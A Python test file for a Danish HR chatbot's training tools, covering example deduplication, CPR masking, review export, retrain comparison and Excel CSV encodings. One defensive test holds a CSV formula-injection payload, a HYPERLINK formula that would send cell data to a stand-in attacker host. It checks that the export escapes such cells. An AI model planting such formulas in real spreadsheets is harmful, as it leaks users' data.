"""Review export, adding labelled examples, and the retrain verdict — the fast parts."""
from __future__ import annotations

import time

from af_core.textsim import normalise, similarity
from tests.tracker_builder import Conv, write_store
from trainer import add_examples, conversations as conv_mod, retrain, review

INTENTS = ["greet", "find_form", "ask_question", "human_handoff", "nlu_fallback"]
EXISTING = [
    ("hvor finder jeg blanketten til vikar", "find_form"),
    ("blanket til ansættelse af ny pædagog", "find_form"),
    ("skema til kørsel", "find_form"),
    ("hvor mange omsorgsdage har man", "ask_question"),
    ("hvad siger ferieloven om overførsel af ferie", "ask_question"),
    ("regler om barsel for fædre", "ask_question"),
    ("hej", "greet"),
    ("jeg vil tale med en person", "human_handoff"),
]


def test_normalise_folds_case_danish_letters_punctuation_and_spaces():
    assert normalise("  Hvor er BLANKETTEN til kørsel?? ") == normalise("hvor er blanketten til koersel")
    assert normalise("Få  ferie, nu!") == "faa ferie nu"
    assert similarity("blanket til vikar", "blanket til vikarer") > similarity("blanket til vikar", "hvor mange omsorgsdage")


def test_plan_skips_exact_and_near_duplicates_and_conflicts():
    rows = [
        {"tekst": "Hvor finder jeg blanketten til VIKAR?", "ret_intent": "find_form"},  # exact after folding
        {"tekst": "hvor finder jeg blanketten til vikar!!", "ret_intent": "find_form"},
        {"tekst": "hvor finder jeg blanketen til vikar", "ret_intent": "find_form"},  # typo: near duplicate
        {"tekst": "Jeg vil tale med en person", "ret_intent": "find_form"},  # already another intent's example
        {"tekst": "blanket til opsigelse af en lærer", "ret_intent": "find_form"},
        {"tekst": "blanket til opsigelse af en lærer", "ret_intent": "find_form"},  # twice in the file
        {"tekst": "noget helt andet", "ret_intent": ""},
        {"tekst": "også helt andet", "ret_intent": "ignorer"},
    ]
    outcome = add_examples.plan(rows, INTENTS, EXISTING)
    assert not outcome.errors
    assert outcome.added == {"find_form": ["blanket til opsigelse af en lærer"]}
    reasons = [why for _, why in outcome.skipped]
    assert reasons.count("findes allerede") == 3
    assert any(why.startswith("næsten magen til") for why in reasons)
    assert any("står allerede som eksempel på human_handoff" in why for why in reasons)


def test_plan_warns_when_an_example_looks_like_another_intent():
    rows = [{"tekst": "hvad siger ferieloven om overførsel af ferie til næste år", "ret_intent": "find_form"}]
    outcome = add_examples.plan(rows, INTENTS, EXISTING)
    assert outcome.added == {"find_form": [rows[0]["tekst"]]}  # added, but the trainer is told
    assert len(outcome.warnings) == 1 and "ligner mere eksemplerne på ask_question" in outcome.warnings[0]
    quiet = add_examples.plan([{"tekst": "blanket til vikar i SFO", "ret_intent": "find_form"}], INTENTS, EXISTING)
    assert quiet.warnings == []


def test_plan_refuses_unknown_labels_and_changes_nothing():
    rows = [
        {"tekst": "blanket til orlov", "ret_intent": "find_form"},
        {"tekst": "barsel regler", "ret_intent": "Ask_Question "},  # case and spaces do not matter
        {"tekst": "blanket til sygemelding", "ret_intent": "find_from"},
        {"tekst": "det forstod du ikke", "ret_intent": "nlu_fallback"},  # not trainable
    ]
    outcome = add_examples.plan(rows, INTENTS, EXISTING)
    assert outcome.added == {}
    assert len(outcome.errors) == 2
    assert "Række 4" in outcome.errors[0] and "Mente du «find_form»" in outcome.errors[0]
    assert "Række 5" in outcome.errors[1] and "nlu_fallback" in outcome.errors[1]


def test_clean_text_masks_cpr_and_strips_annotation_syntax():
    assert add_examples.clean_text("løn til 010203-1234 [haster]") == "løn til cpr-nummer haster"
    assert add_examples.clean_text("  to   mellemrum \n ny linje ") == "to mellemrum ny linje"


def test_yaml_review_file_and_target_file_round_trip(tmp_path):
    review_file = tmp_path / "gennemgang.yml"
    review_file.write_text("- {tekst: blanket til orlov, ret_intent: find_form}\n- {tekst: hej igen, ret_intent: null}\n",
                           encoding="utf-8")
    rows = add_examples.read_rows(review_file)
    assert rows == [{"tekst": "blanket til orlov", "ret_intent": "find_form"}, {"tekst": "hej igen", "ret_intent": ""}]
    target = tmp_path / "fra-traenere.yml"
    target.write_text(add_examples.render_target({"find_form": ["a: b", "# ikke en kommentar"], "greet": ["hejsa"]}),
                      encoding="utf-8")
    assert add_examples.read_target(target) == {"find_form": ["a: b", "# ikke en kommentar"], "greet": ["hejsa"]}


def test_review_findings_and_grouping(tmp_path):
    now = time.time()
    convs = [
        Conv("a", now - 600).fallback("blanket til kørsel", "find_form", 0.3),
        Conv("b", now - 500).fallback("Blanket til  koersel", "find_form", 0.2),
        Conv("c", now - 400).user("/find_form", "find_form", 0.1),  # a button: never exported
        Conv("d", now - 300).user("ferie regler", "ask_question", 0.55).user("tak", "greet", 0.3),
        Conv("e", now - 200).user("form i gang", "find_form", 0.9).loop("request_form"),  # recent: not abandoned yet
    ]
    db = write_store(tmp_path / "t.db", convs)
    found = review.findings(conv_mod.with_user_messages(conv_mod.conversations(conv_mod.load_events(db))),
                            threshold=0.6, abandoned_after=3600, now=now)
    assert sorted((f.text, f.reason) for f in found) == [
        ("Blanket til  koersel", "fallback"),
        ("blanket til kørsel", "fallback"),
        ("ferie regler", "low_confidence"),
        ("tak", "low_confidence"),
    ]
    table = review.rows(found, similarity=0.5)
    assert [row["antal"] for row in table][0] == "2"
    assert table[0]["tekst"] in {"blanket til kørsel", "Blanket til  koersel"}
    assert table[0]["sikkerhed"] == "0,20"
    assert len(table) == 3


# ------------------------------------------------------------------ the retrain verdict


def _eval(f1: float, accuracy: float, rows=(), per_intent=None, gate=0.85):
    return {
        "min_weighted_f1": gate,
        "intents": {"weighted_f1": f1, "accuracy": accuracy, "per_intent": per_intent or {}},
        "predictions": [{"text": t, "expected": e, "predicted": p, "fallback": False} for t, e, p in rows],
    }


def test_verdict_better_worse_same_first_and_below_gate():
    old = _eval(0.90, 0.90, [("a", "x", "x"), ("b", "y", "x")], {"x": {"f1": 0.9}, "y": {"f1": 0.9}})
    better = retrain.compare(_eval(0.93, 0.93, [("a", "x", "x"), ("b", "y", "y")]), old)
    assert better["kind"] == "better" and better["approved"]
    assert any("svarer den nye rigtigt på 2 og den gamle på 1" in line for line in better["lines"])

    worse = retrain.compare(_eval(0.87, 0.87, [("a", "x", "y")], {"x": {"f1": 0.7}, "y": {"f1": 0.9}}), old)
    assert worse["kind"] == "worse" and not worse["approved"]
    assert any("forstår dårligere: x" in line for line in worse["lines"])

    same = retrain.compare(_eval(0.905, 0.90, [("a", "x", "x")]), old)
    assert same["kind"] == "same" and same["approved"]

    # a tiny F1 gain does not hide that many shared messages went wrong ...
    right = [(f"m{i}", "x", "x") for i in range(8)]
    old_many = _eval(0.90, 0.90, right, {"x": {"f1": 0.9}})
    paired_worse = retrain.compare(_eval(0.905, 0.90, [(t, e, "y") for t, e, _ in right[:6]] + right[6:]), old_many)
    assert paired_worse["kind"] == "worse" and not paired_worse["approved"]
    assert any("0 blev rigtige, 6 blev forkerte" in line for line in paired_worse["lines"])
    # ... but one or two messages that flip, as they do between two trainings, are noise
    one_flip = retrain.compare(_eval(0.90, 0.90, [("m0", "x", "y")] + right[1:]), old_many)
    assert one_flip["kind"] == "same" and one_flip["approved"]
    assert any("sker også, når man træner to gange" in line for line in one_flip["lines"])
    two_each_way = _eval(0.90, 0.90, [("m0", "x", "y"), ("m1", "x", "y")] + right[2:]
                         + [("n0", "y", "y"), ("n1", "y", "y")])
    old_two = _eval(0.90, 0.90, right + [("n0", "y", "x"), ("n1", "y", "x")], {"x": {"f1": 0.9}})
    assert retrain.compare(two_each_way, old_two)["kind"] == "same"

    assert retrain.compare(_eval(0.91, 0.91), None)["kind"] == "first"
    below = retrain.compare(_eval(0.80, 0.80), old)
    assert below["kind"] == "below_gate" and not below["approved"]


def test_a_leaders_text_is_never_a_formula_in_the_trainers_sheet_and_comes_back_unchanged(tmp_path):
    """Security review (issue 14): a cell starting with = + - @ runs as a formula in Excel."""
    texts = ['=HYPERLINK("http://ond.example/?q="&A1;"klik")', "+45 33 66 33 66 ring", "-1 dag ferie",
             "@SUM(1+1)", "almindelig tekst"]
    table = [{**{c: "" for c in review.COLUMNS}, "tekst": t, "ret_intent": "find_form"} for t in texts]
    path = tmp_path / "til-gennemgang.csv"
    review.write_csv(path, table)
    rows = add_examples.read_rows(path)
    assert [row["tekst"][0] for row in rows[:4]] == ["'"] * 4  # Excel shows it as text
    assert rows[4]["tekst"] == "almindelig tekst"
    assert [add_examples.clean_text(row["tekst"]) for row in rows] == [" ".join(t.split()) for t in texts]


def test_make_add_reads_what_excel_on_a_danish_windows_saves_and_says_what_it_read(tmp_path, capsys):
    """Issue 16: Excel's "CSV (semikolonsepareret)" on a Danish Windows is Windows-1252 without
    a BOM; "CSV UTF-8" has a BOM; some save with commas. All three are read, æøå intact."""
    header = "gruppe;antal;tekst;ret_intent\r\n"
    body = '1;2;"Hvor finder jeg blanketten til barsel for pædagoger, så jeg kan søge?";find_form\r\n'
    sheets = {
        "excel-dansk.csv": (header + body).encode("cp1252"),
        "excel-utf8.csv": b"\xef\xbb\xbf" + (header + body).encode("utf-8"),
        "komma.csv": (header + body).replace(";", ",").replace("pædagoger,", "pædagoger;").encode("utf-8"),
    }
    expected = "Hvor finder jeg blanketten til barsel for pædagoger, så jeg kan søge?"
    described = {}
    for name, data in sheets.items():
        path = tmp_path / name
        path.write_bytes(data)
        rows, sheet = add_examples.read_sheet(path)
        assert [row["tekst"] for row in rows] == [expected.replace("pædagoger,", "pædagoger;")
                                                   if name == "komma.csv" else expected], name
        assert rows[0]["ret_intent"] == "find_form"
        described[name] = sheet.describe()
    assert described["excel-dansk.csv"] == "Windows-1252 (Excel på dansk Windows), adskilt med semikolon"
    assert described["excel-utf8.csv"] == "UTF-8 med BOM, adskilt med semikolon"
    assert described["komma.csv"] == "UTF-8, adskilt med komma"
